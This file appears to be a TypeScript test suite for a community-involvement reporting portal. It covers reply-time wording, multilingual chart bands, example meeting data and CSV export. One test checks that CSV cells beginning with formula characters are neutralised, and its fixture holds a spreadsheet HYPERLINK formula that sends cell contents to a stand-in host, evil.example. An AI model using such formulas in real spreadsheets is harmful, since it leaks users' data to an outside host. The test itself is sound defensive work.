import { describe, expect, it } from 'vitest';
import { involvementYear } from '../../src/model/involvement.ts';
import {
  clockSentence,
  involvementTables,
  livedOfWords,
  medianWords,
  people,
  replyBandLabel,
  replyTimesChart,
  involvementNotes,
  toCsv,
  unknowns,
} from '../../src/present/replies.ts';
import { REPLY_BANDS, replyBands } from '../../src/model/replies.ts';
import { examplePortal } from './example-portal.ts';
import { en, messagesIn } from '../helpers/messages.ts';

describe('the response clock in words', () => {
  it('says how late an unanswered input is, in the words a member would use', () => {
    expect(clockSentence(en, { state: 'waiting', workingDays: 34, standard: 20, due: '2026-11-17', pastBy: 14 })).toBe(
      'We have not replied yet. We are 14 working days past the 20 working days we promised.',
    );
  });
  it('says when a reply is due while it is not late, and how a late reply compares', () => {
    expect(clockSentence(en, { state: 'waiting', workingDays: 1, standard: 20, due: '2026-12-22', pastBy: null })).toBe(
      'We have not replied yet. It has been 1 working day; we promised to reply within 20 working days, by 22 December 2026.',
    );
    expect(clockSentence(en, { state: 'answered', workingDays: 36, standard: 20, on: '2025-12-29', late: 16 })).toBe(
      'We replied on 29 December 2025, after 36 working days: 16 working days later than the 20 working days we promised.',
    );
    expect(clockSentence(en, { state: 'unrecorded', standard: 20 })).toBe(
      'We replied, but did not record the day we did.',
    );
  });
  it('gives a half-day median as it is, and says when there is none', () => {
    expect(medianWords(en, 18.5)).toBe('18.5 working days');
    expect(medianWords(en, null)).toBe('No replies with a date yet');
  });
  it('shows 1 to 4 people as fewer than 5', () => {
    expect([people(en, { n: 3, withheld: true }), people(en, { n: 0, withheld: false })]).toEqual([
      'fewer than 5',
      '0',
    ]);
  });
  it('gives those with lived experience out of those who came, or alone when fewer than 5 came', () => {
    expect(livedOfWords(en, 12, 20)).toBe('12 of 20');
    expect(livedOfWords(en, 3, 20)).toBe('fewer than 5 of 20');
    expect(livedOfWords(en, 3, 4)).toBe('fewer than 5');
    expect(livedOfWords(en, 0, 4)).toBe('0');
    expect(livedOfWords(messagesIn('pl'), 12, 20)).toBe('12 z 20');
  });
});

describe('the bands of the reply-times chart, in each language', () => {
  const labelsIn = (lang: string) => replyBands([]).map((band) => replyBandLabel(messagesIn(lang), band));
  it('are the bands of working days, one after another, with no gap', () => {
    expect(replyBands([]).map(({ from, upTo }) => [from, upTo])).toEqual([
      [0, 5],
      [6, 10],
      [11, 20],
      [21, 40],
      [41, undefined],
    ]);
    expect(REPLY_BANDS).toHaveLength(5);
  });
  it('are said in English', () => {
    expect(labelsIn('en')).toEqual([
      'Up to 5 working days',
      '6 to 10 working days',
      '11 to 20 working days',
      '21 to 40 working days',
      'More than 40 working days',
    ]);
  });
  it('are said in Turkish, Polish and Arabic, never in English', () => {
    expect(labelsIn('tr')).toEqual([
      '5 iş gününe kadar',
      '6–10 iş günü',
      '11–20 iş günü',
      '21–40 iş günü',
      '40 iş gününden fazla',
    ]);
    expect(labelsIn('pl')).toEqual([
      'Do 5 dni roboczych',
      'Od 6 do 10 dni roboczych',
      'Od 11 do 20 dni roboczych',
      'Od 21 do 40 dni roboczych',
      'Ponad 40 dni roboczych',
    ]);
    expect(labelsIn('ar')[0]).toMatch(/^حتى /);
    expect(labelsIn('ar')[4]).toMatch(/^أكثر من /);
    for (const lang of ['tr', 'pl', 'ar']) expect(labelsIn(lang).join(' ')).not.toMatch(/working|Up to|More than/);
  });
  it('name the chart’s categories', () => {
    expect(replyTimesChart(messagesIn('pl'), replyBands([]), 20).categories[0]).toBe('Do 5 dni roboczych');
  });
});

describe('the example partnership on 3 December 2026', () => {
  const portal = examplePortal('2026-12-03');
  const ref = (code: string) => portal.inputs.find((i) => i.data.ref === code)!;

  it('lists what waits for a reply, longest first, with YS-2026-007 past the promise', () => {
    // YS-2026-007 received 20 Oct: 32 working days; YS-2026-008 5 Nov: 20; YS-2026-009 and 010 24 Nov: 7.
    expect(
      portal.replies.waiting.all.items.map((i) => [i.data.ref, i.clock.state === 'waiting' && i.clock.workingDays]),
    ).toEqual([
      ['YS-2026-007', 32],
      ['YS-2026-008', 20],
      ['YS-2026-009', 7],
      ['YS-2026-010', 7],
    ]);
    expect(ref('YS-2026-007').clock).toMatchObject({ pastBy: 12 });
    expect(ref('YS-2026-008').clock).toMatchObject({ pastBy: null });
  });

  it('tells YS-2026-009’s story: said at the working group, where an action was agreed that answers it', () => {
    expect(ref('YS-2026-009').story.map((e) => [e.kind, e.date])).toEqual([
      ['said', '2026-11-24'],
      ['action-agreed', '2026-11-24'],
    ]);
  });

  it('tells YS-2025-003’s story in date order: said, replied, action agreed and done, commitment, updates', () => {
    const story = ref('YS-2025-003').story;
    expect(story[0]).toMatchObject({ kind: 'said', date: '2025-04-08' });
    expect(story.map((e) => e.date)).toEqual([...story.map((e) => e.date)].sort());
    expect(story.map((e) => e.kind)).toContain('action-agreed');
    expect(story.map((e) => e.kind)).toContain('replied');
  });

  it('connects the forum to the working group to the board', () => {
    expect(portal.levels.levels.map((l) => l.map((g) => g.id))).toEqual([
      ['community-forum'],
      ['coproduction-working-group'],
      ['lived-experience-board'],
    ]);
    expect(portal.levels.apart).toEqual([]);
  });

  it('says which minutes are drafts and which were agreed, and where', () => {
    const record = (id: string) => portal.minutes.find((m) => m.id === id)!.record;
    expect(record('forum-2026-09-15')).toEqual({ state: 'draft' });
    expect(record('working-group-2026-11-24')).toEqual({ state: 'draft' });
    expect(record('forum-2025-04-08')).toMatchObject({ state: 'agreed', date: '2025-10-14' });
    const agreed = record('forum-2025-04-08');
    expect(agreed.state === 'agreed' ? agreed.meeting?.id : undefined).toBe('forum-2025-10-14');
  });

  it('writes a report for 2025 and 2026, and the 2026 figures by hand', () => {
    expect(portal.involvement.map((y) => y.year)).toEqual(['2025', '2026']);
    const y = portal.involvement[1]!;
    // Minutes in 2026: working group 27 Jan (see content) and 24 Nov (12, 5 lived), board 21 Apr (10, 8),
    // forum 15 Sep (58, 40).
    expect(y.groups.map((g) => [g.group.id, g.meetings])).toEqual([
      ['community-forum', 1],
      ['coproduction-working-group', 2],
      ['lived-experience-board', 1],
    ]);
    expect(y.inputs.received).toBe(10);
    expect(y.inputs.replies.waiting).toBe(4);
    // Replied to: the other 6, one of them after the promise (YS-2026 figures: 5 on time, 1 late).
    expect(y.inputs.answered).toBe(6);
    expect(
      involvementTables(en, y)
        .find((t) => t.id === 'inputs')!
        .rows.slice(0, 2),
    ).toEqual([
      ['Received', '10'],
      ['Replied to', '6'],
    ]);
    expect(unknowns(en, y)[0]).toBe('2026 is not over: these figures run to 3 December 2026.');
  });

  it('names every column of every table of a year, so a screen reader never meets an empty heading', () => {
    for (const m of ['en', 'tr', 'pl', 'ar'].map(messagesIn))
      for (const year of portal.involvement)
        for (const table of involvementTables(m, year))
          for (const column of table.columns) expect(column.trim(), `${table.id} in ${year.year}`).not.toBe('');
    expect(involvementTables(en, portal.involvement[1]!).find((t) => t.id === 'replies')!.columns[0]).toBe('Year');
  });

  it('counts the 12 reviews of 2026 by verdict, with 3 replies and 265 people taking part', () => {
    // Reviews of 21 April: 3 partly delivered, 2 at risk, 1 delivered; of 15 September: 2 delivered,
    // 2 not delivered, 1 at risk, 1 too early. Replies: crisis line, housing pathway, crisis café.
    // People: 35+14+8+8+48+8 in April, 18+52+23+17+19+15 in September.
    const r = portal.involvement[1]!.reviews!;
    expect([r.published, r.replied, r.participants, r.participantsUnrecorded]).toEqual([
      12,
      3,
      { n: 265, withheld: false },
      0,
    ]);
    expect(r.byVerdict.map((v) => v.count)).toEqual([3, 3, 0, 3, 2, 1]);
    expect(portal.involvement[0]!.reviews!.published).toBe(2);
  });
});

describe('the report’s CSV', () => {
  it('quotes every cell, doubles quotes and withholds small counts as on the page', () => {
    const g = { id: 'g', data: { name: 'The "Open" Forum', kind: 'forum' as const, description: 'd' } };
    const year = involvementYear(
      {
        groups: [g],
        minutes: [
          { id: 'm', data: { title: 'm', date: '2026-02-01', group: 'g', attendance: { total: 3 } }, group: g },
        ],
        inputs: [],
        commitments: [],
      },
      '2026',
      '2027-01-10',
    );
    const csv = toCsv(involvementTables(en, year).slice(0, 1));
    expect(csv).toBe(
      [
        '"Meetings and who came"',
        '"Group","Meetings","People who came","With lived experience"',
        '"The ""Open"" Forum","1","fewer than 5","Not recorded"',
        '"All groups","1","fewer than 5","Not recorded"',
        '',
      ].join('\r\n'),
    );
    expect(year.complete).toBe(true);
  });

  it('opens with what the figures cover and what they do not know, so they travel together', () => {
    const g = { id: 'g', data: { name: 'Forum', kind: 'forum' as const, description: 'd' } };
    const year = involvementYear(
      {
        groups: [g],
        minutes: [
          { id: 'm', data: { title: 'm', date: '2026-02-01', group: 'g', attendance: { total: 9 } }, group: g },
        ],
        inputs: [],
        commitments: [],
      },
      '2026',
      '2026-12-07',
    );
    const csv = toCsv(involvementTables(en, year), involvementNotes(en, year, 'Test partnership'));
    expect(csv.split('\r\n').slice(0, 6)).toEqual([
      '"How we involved people in 2026"',
      '"Test partnership: the meetings held, who came, what people told us and what happened, from 1 January to 7 December 2026."',
      '"2026 is not over: these figures run to 7 December 2026."',
      '"1 meeting did not record how many people with lived experience came, so the share is of the other meetings only."',
      '"1 meeting did not record which decision-makers came."',
      '"People who came to more than one meeting are counted at each one. Where fewer than 5 people are counted, the number is not shown, so that no one can be recognised, and a total that includes such a number is given as the least and the most it could be."',
    ]);
    expect(csv).toContain('"Made in the year","0"\r\n"Delivered in the year (made in any year)","0"');
  });

  it('marks a name a spreadsheet would run as a formula as text, as the open data does', () => {
    const formulas = ['=HYPERLINK("https://evil.example/?"&A1,"Open")', '@SUM(1+1)', '+1+1', '-2+3'];
    const csv = toCsv([
      { id: 'roles', title: 'Roles', columns: ['Role', 'Meetings'], rows: formulas.map((f) => [f, '1']) },
    ]);
    expect(csv.split('\r\n').slice(2, 6)).toEqual([
      '"\'=HYPERLINK(""https://evil.example/?""&A1,""Open"")","1"',
      '"\'@SUM(1+1)","1"',
      '"\'+1+1","1"',
      '"\'-2+3","1"',
    ]);
  });
});
